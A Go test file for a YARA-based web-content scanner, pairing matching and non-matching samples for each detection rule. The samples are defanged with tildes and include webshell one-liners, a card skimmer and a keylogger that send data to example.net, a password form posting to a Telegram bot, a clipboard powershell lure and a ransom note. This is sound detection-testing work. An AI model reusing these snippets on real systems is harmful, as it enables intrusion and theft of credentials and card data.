package yara_test

import (
	"fmt"
	"strings"

	"icapd/scan/scantest"
)

func webSamples() []ruleSample {
	return []ruleSample{
		{
			rule: "EICAR_Test_File",
			hit:  join([]byte("stored in an archive: "), scantest.EICAR(), []byte("PK\x01\x02")),
			miss: scantest.EICAR()[:60],
		},
		{
			rule: "PHP_Webshell_Runs_Request",
			hit:  cut(`<?p~hp @ev~al(base64_decode($_PO~ST['x'])); ?>`),
			miss: cut(`<?p~hp $name = trim($_PO~ST['name']); echo htmlspecialchars($name); evaluate($name); ?>`),
		},
		{
			rule: "PHP_Webshell_Request_Names_Function",
			hit:  cut(`<?p~hp $_GE~T['f']($_GE~T['a']); ?>`),
			miss: cut(`<?p~hp $page = $_GE~T['page']; show($page, $_GE~T['lang']); ?>`),
		},
		{
			rule: "PHP_Webshell_Packed_Eval",
			hit:  cut(`<?p~hp ev~al(gzinf~late(base~64_decode('` + strings.Repeat("c3Vy", 20) + `')));`),
			miss: cut(`<?p~hp $data = gzinf~late(base~64_decode('` + strings.Repeat("c3Vy", 20) + `')); echo $data;`),
		},
		{
			rule: "PHP_Webshell_Spelled_Function",
			hit:  cut(`<?p~hp $f = ch~r(115).ch~r(121).ch~r(115).ch~r(116).ch~r(101).ch~r(109); $f($c);`),
			miss: cut(`<?p~hp $crlf = ch~r(13).ch~r(10); $tab = ch~r(9);`),
		},
		{
			rule: "PHP_Webshell_Writes_Request",
			hit:  cut(`<?p~hp file_put_~contents($_PO~ST['n'], base64_decode($_PO~ST['d']));`),
			miss: cut(`<?p~hp file_put_~contents('/var/log/app.log', json_encode($_PO~ST['d']), FILE_APPEND);`),
		},
		{
			rule: "PHP_Webshell_Known",
			hit:  cut(`<?p~hp /* b37~4k 3.2 */ @ini_~set('display_errors', 0); echo shell_~exec($c); `),
			miss: cut(`Names of known shells: c99~shell, r57~shell, b37~4k, weev~ely; they use shell_~exec( and passt~hru(`),
		},
		{
			rule: "PHP_In_Image",
			hit:  gif(cut(`<?p~hp sys~tem($_GE~T['c']); ?>`)),
			miss: cut(`<?p~hp header('Content-Type: image/gif'); readfile('GIF89a.gif');`),
		},
		{
			rule: "PHP_Handler_For_Images",
			hit:  cut("Options -Indexes\nAdd~Type application/x-http~d-php .jpg\n"),
			miss: cut("Add~Type application/x-http~d-php .php\nAdd~Type image/jpeg .jpg\n"),
		},
		{
			rule: "JSP_Webshell_Runs_Request",
			hit:  cut(`<%@ page import="java.io.*" %><% Runtime.getRun~time().ex~ec(request.getPara~meter("c")); %>`),
			miss: cut(`<%@ page import="java.io.*" %><% String name = request.getPara~meter("name"); out.print(name); %>`),
		},
		{
			rule: "JSP_Webshell_Loads_Class",
			hit: cut(`<%! class U extends Class~Loader { Class g(byte[] b) { return super.define~Class(b, 0, b.length); } } %>` +
				`<% Cipher c = Cipher.getIn~stance("AES"); c.init(2, k); new U().g(c.doFinal(Base64.getDecoder().decode(request.getRea~der().readLine()))); %>`),
			miss: cut(`<% Cipher c = Cipher.getIn~stance("AES"); String s = request.getPara~meter("t"); %>`),
		},
		{
			rule: "ASP_Webshell_Runs_Request",
			hit:  cut(`<%@ Page Language="Jscript"%><%ev~al(Req~uest.Item["p"],"unsafe");%>`),
			miss: cut(`<%@ Page Language="C#"%><% var p = Server.HtmlEncode(Req~uest.Form["p"]); Evaluate(p); %>`),
		},
		{
			rule: "ASPX_Webshell_Starts_Process",
			hit: cut(`<%@ Page Language="C#" %><% var p = new ProcessStart~Info(); p.FileName = "cm~d.exe"; p.Arguments = "/c " + Req~uest.Form["c"]; ` +
				`System.Diagnostics.Process.St~art(p); %>`),
			miss: cut(`<%@ Page Language="C#" %><% var q = Req~uest.Form["q"]; Search.Start(q); %>`),
		},
		{
			rule: "ASPX_Webshell_Loads_Assembly",
			hit: cut(`<%@ Page Language="C#" %><% byte[] d = Req~uest.BinaryRead(Req~uest.ContentLength); ` +
				`var m = new RijndaelMan~aged().CreateDecr~yptor(k, k).TransformFinalBlock(d, 0, d.Length); ` +
				`System.Reflection.Assem~bly.Lo~ad(m).CreateIns~tance("U").Equals(this); %>`),
			miss: cut(`<%@ Page Language="C#" %><% var id = Req~uest.Form["id"]; var raw = Convert.FromBase64~String(id); %>`),
		},
		{
			rule: "CGI_Webshell_Runs_Request",
			hit:  cut(`import os, cgi` + "\n" + `form = cgi.FieldStorage()` + "\n" + `print(os.po~pen(form.get~value("c")).read())`),
			miss: cut(`import os, cgi` + "\n" + `form = cgi.FieldStorage()` + "\n" + `print(os.path.join("/srv", form.get~value("c")))`),
		},
		{
			rule: "Page_Tells_To_Run_Command",
			hit: cut(`<h2>Verif~ication Steps</h2><p>1. Press <b>Wind~ows</b> + <b>R</b></p><p>2. Press <b>Ctr~l</b> + <b>V</b></p>` +
				`<script>navigator.clip~board.write~Text("powersh~ell -w h -c calc")</script>`),
			miss: cut(`<p>Press Ctr~l + V to paste.</p><script>navigator.clip~board.write~Text("npm install example")</script>`),
		},
		{
			rule: "Page_Sends_Passwords_To_Chat",
			hit:  cut(`<form><input name="p" type="pass~word"></form><script>fetch("https://api.tele~gram.org/bo~t123456:AAExample/send~Message?chat_~id=1&text=" + p.value)</script>`),
			miss: cut(`<form><input name="p" type="pass~word"></form><p>Follow us on telegram.org</p>`),
		},
		{
			rule: "Page_Imitates_Microsoft_Login",
			hit: cut(`<title>Sign in to your acc~ount</title><img src="https://aadcdn.msa~uth.net/x/microsoft_~logo.svg">` +
				`<form action="https://example.net/wp/next.ph~p" method="post"><input type="pass~word" name="p"></form>`),
			miss: cut(`<title>Sign in to your acc~ount</title><form action="/session" method="post"><input type="pass~word" name="p"></form>`),
		},
		{
			rule: "Page_Writes_Hidden_Page",
			hit:  cut(`<script>document.wr~ite(unesc~ape('%3c%73%63%72%69%70%74%20%73%72%63'));</script>`),
			miss: cut(`<script>document.wr~ite(unesc~ape('%A9 2024'));</script>`),
		},
		{
			rule: "Page_Smuggles_Program",
			hit:  cut(`<script>var d = "TVq~QAAMAAAAEAAAA` + strings.Repeat("AAAA", 30) + `"; var b = at~ob(d); var f = new Bl~ob([b]); a.href = URL.createObj~ectURL(f); a.download = "x.e~xe"; a.cl~ick();</script>`),
			miss: cut(`<script>var b = at~ob(d); var f = new Bl~ob([b], {type: "text/csv"}); a.href = URL.createObj~ectURL(f); a.download = "items.csv"; a.cl~ick();</script>`),
		},
		{
			rule: "Script_Skims_Cards",
			hit: cut(`if (location.href.indexOf("check~out") > 0) { var n = form["cc_num~ber"].value, c = form["cc_~cid"].value; ` +
				`var i = new Im~age(); i.src = "https://cdn.example.net/p.gif?d=" + bt~oa(n + c); }`),
			miss: cut(`if (location.href.indexOf("check~out") > 0) { validate(form["cc_num~ber"].value, form["cc_~cid"].value); }`),
		},
		{
			rule: "Script_Logs_Keys",
			hit:  cut(`var keys = ""; document.addEventListener("key~press", function (e) { keys += e.k~ey; fet~ch("https://example.net/l?k=" + encodeURIComponent(keys)); });`),
			miss: cut(`document.addEventListener("key~press", function (e) { if (e.k~ey === "Enter") { fet~ch("/search?q=" + encodeURIComponent(input.value)); } });`),
		},
		{
			rule: "Script_Mines_In_Browser",
			hit:  cut(`<script>var m = new CoinH~ive.Anony~mous("key"); m.start();</script>`),
			miss: cut(`{"blocked": ["coinh~ive.com", "crypto-l~oot.com"]}`),
		},
		{
			rule: "SVG_Runs_Hidden_Script",
			hit:  cut(`<s~vg xmlns="http://www.w3.org/2000/svg"><scr~ipt>window.loca~tion.href = at~ob("aHR0cHM6Ly9leGFtcGxlLm5ldA==");</scr~ipt></svg>`),
			miss: cut(`<s~vg xmlns="http://www.w3.org/2000/svg"><scr~ipt>document.querySelector("circle").onclick = function () { toggle(); };</scr~ipt></svg>`),
		},
		{
			rule: "JScript_Spelled_Code",
			hit:  cut(`ev~al(String.from~CharCode(` + strings.Repeat("118, ", 40) + `59))`),
			miss: cut(`var s = String.from~CharCode(` + strings.Repeat("118, ", 40) + `59)`),
		},
		{
			rule: "Ransom_Note",
			hit: cut(fmt.Sprintf("All your files have been encryp~ted. Do not rena~me encrypted files.\nInstall the Tor Brow~ser and go to http://%s.oni~on\nYour decryp~tion ID: 12\n"+
				"Buy the decry~ptor with Bitcoin.", strings.Repeat("abcdefg7", 7))),
			miss: cut("After the attack many files have been encryp~ted, the company says. It did not pay for a decry~ptor. The gang is known for its site in the Tor Brow~ser."),
		},
	}
}
